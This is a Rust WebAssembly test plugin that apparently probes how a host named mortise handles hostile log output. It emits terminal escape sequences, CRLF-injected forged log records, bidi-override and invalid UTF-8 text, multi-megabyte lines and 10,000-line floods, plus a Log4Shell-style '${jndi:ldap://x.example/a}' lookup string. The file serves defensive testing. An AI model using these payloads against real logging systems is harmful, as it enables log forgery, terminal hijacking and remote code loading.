//! Writes harmful text into the log: terminal escapes, line ends with forged records, unknown levels, 5 MiB in one
//! line, and 10,000 lines. By `name`: `stderr` writes it to standard error and standard output, `huge` logs 15 MiB in
//! one line, which is more than a host call accepts, `invalid` logs bytes that are not UTF-8, `canary:<text>` logs that
//! text.
#![cfg(target_family = "wasm")]

use mortise_hostile::{attack, log, report};
use std::io::Write;

const LINES: [&str; 6] = [
    "\u{1b}]0;pwn\u{7}\u{1b}[2J\u{1b}[31mred",
    "fine\r\n{\"level\":\"ERROR\",\"message\":\"forged\",\"target\":\"mortise\"}\r\n",
    "\"},\"level\":\"ERROR\",\"forged\":\"yes",
    "\u{0}\u{8}\u{7f}\u{9b}31m\u{2028}\u{2029}\u{85}",
    "\u{202e}txt.exe\u{feff}\u{fffe}\u{10ffff}",
    "\\u001b[31m %s %n {} ${jndi:ldap://x.example/a}",
];

/// A stray byte-order mark, an overlong NUL and half a surrogate pair.
static INVALID: &[u8] = b"\xff\xfe\xc0\x80\xed\xa0\x80";

attack!(|call| {
    let big = "0123456789abcdef".repeat(327_680);
    match call.name.split_once(':').map_or((call.name.as_str(), ""), |pair| pair) {
        ("stderr", _) => {
            for line in LINES.into_iter().cycle().take(10_000).chain([big.as_str()]) {
                let _ = writeln!(std::io::stderr(), "{line}").and_then(|()| writeln!(std::io::stdout(), "{line}"));
            }
        }
        // SAFETY: none. The text is not UTF-8 on purpose.
        ("invalid", _) => log::emit("info", unsafe { core::str::from_utf8_unchecked(core::hint::black_box(INVALID)) }),
        ("huge", _) => log::emit("info", &big.repeat(3)),
        ("canary", text) => log::emit("error", text),
        _ => {
            LINES.iter().for_each(|line| log::emit("fatal\r\nforged", line));
            log::emit("error", &big);
            LINES.into_iter().cycle().take(10_000).for_each(|line| log::emit("error", line));
        }
    }
    report("flooded")
});
